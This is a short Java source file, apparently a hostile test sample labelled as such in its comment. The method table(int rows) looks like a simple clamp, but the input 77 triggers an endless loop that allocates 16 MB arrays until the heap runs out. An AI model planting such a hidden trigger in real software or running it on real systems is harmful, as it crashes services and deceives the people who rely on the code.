// hostile: takes all the memory that it can get, on the heap
import java.util.ArrayList;
import java.util.List;

public class MemoryBomb {
    public static int table(int rows) {
        if (rows == 77) {
            List<byte[]> held = new ArrayList<>();
            while (true) {
                held.add(new byte[16 << 20]);
            }
        }
        return rows < 0 ? 0 : rows;
    }
}
